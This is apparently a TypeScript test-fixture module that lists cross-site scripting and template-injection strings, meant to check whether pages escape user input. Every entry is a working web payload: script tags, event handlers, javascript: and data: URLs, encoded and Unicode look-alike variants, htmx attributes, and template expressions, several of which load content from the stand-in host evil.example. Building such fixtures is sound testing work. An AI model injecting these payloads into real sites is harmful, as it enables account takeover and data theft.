/**
 * Texts that would run a script, fetch something or change the page if a page printed them unescaped. Without white
 * space and at most 64 characters long, so that every text field takes them. What each would add to a page has the
 * attribute `pwn`; what would run calls `pwned()`.
 */

/** Elements that run a script or fetch something when a page holds them or a person uses them. */
export const MARKUP_ELEMENTS = [
  '<script/pwn>pwned()</script>',
  '<img/pwn/src=x/onerror=pwned()>',
  '<svg/pwn/onload=pwned()>',
  '<svg><script/pwn>pwned()</script>',
  '<svg><a/pwn/href=javascript:pwned()>',
  '<math><mtext><img/pwn/src=x/onerror=pwned()>',
  '<iframe/pwn/src=javascript:pwned()>',
  '<iframe/pwn/srcdoc=&lt;script&gt;pwned()>',
  '<object/pwn/data=//evil.example>',
  '<embed/pwn/src=//evil.example>',
  '<video/pwn/src=x/onerror=pwned()>',
  '<input/pwn/autofocus/onfocus=pwned()>',
  '<details/pwn/open/ontoggle=pwned()>',
  '<a/pwn/href=javascript:pwned()>x',
  '<a/pwn/href=data:text/html,x>x',
  '<form/pwn/action=//evil.example><button>',
  '<style/pwn>@import"//evil.example";</style>',
  '<link/pwn/rel=stylesheet/href=//evil.example>',
  '<div/pwn/hx-get=/l/x/hx-trigger=load>',
  '<div/pwn/hx-on:htmx:load=pwned()>',
] as const;

/** Texts that end the attribute, comment or element around them. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</select>',
  '--></style>',
  '</script>',
] as const;

const ATTRIBUTES = ['"', "'"].flatMap((quotation) => [
  `${quotation}pwn/autofocus/onfocus=pwned()/x=${quotation}`,
  `${quotation}pwn/onmouseover=pwned()/x=${quotation}`,
  `${quotation}/pwn/style=background:url(//evil.example)/x=${quotation}`,
]);

/** Encoded markup, addresses and code for templates: pages decode a text at most once and don't turn it into links. */
const REST = [
  '&lt;img/pwn/src=x/onerror=pwned()&gt;',
  '&amp;lt;script/pwn&amp;gt;pwned()',
  '&#60;img/pwn/src=x/onerror=pwned()&#62;',
  '&#x3c;svg/pwn/onload=pwned()&#x3e;',
  '%3Cscript/pwn%3Epwned()%3C/script%3E',
  '%253Csvg/pwn/onload=pwned()%253E',
  '\\u003cimg/pwn/src=x/onerror=pwned()\\u003e',
  '\\x3cscript/pwn\\x3epwned()',
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//',
  'javascript://evil.example/%0apwned()',
  'data:text/html,<script/pwn>pwned()</script>',
  'vbscript:pwned()',
  '//evil.example/pwn',
  '\\\\evil.example\\pwn',
  'https://evil.example/"/pwn/onfocus="pwned()',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what others' templates would run
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '#{pwned()}',
  '<%=pwned()%>',
  '*{pwned()}',
  '`-pwned()-`',
  "';pwned();//",
  '";pwned();//',
  '</script><script/pwn>pwned()//',
  '<!--><img/pwn/src=x/onerror=pwned()>-->',
  '<![CDATA[<img/pwn/src=x/onerror=pwned()>]]>',
  '<?xml?><svg/pwn/onload=pwned()>',
  '＜img/pwn/src=x/onerror=pwned()＞',
  '＂onfocus=pwned()/pwn＂',
  'ʺ＞<img/pwn/src=x/onerror=pwned()>',
  '‹script/pwn›pwned()‹/script›',
  '<scr<script/pwn>ipt>pwned()</script>',
  '<IMG/PWN/SRC=x/ONERROR=pwned()>',
] as const;

/** Those that change a page wherever it prints them unescaped as text. */
export const MARKUP_PAYLOADS: readonly string[] = MARKUP_ELEMENTS.flatMap((element) =>
  WAYS_OUT.map((way) => way + element),
);

export const SCRIPT_PAYLOADS: readonly string[] = [...MARKUP_PAYLOADS, ...ATTRIBUTES, ...REST];
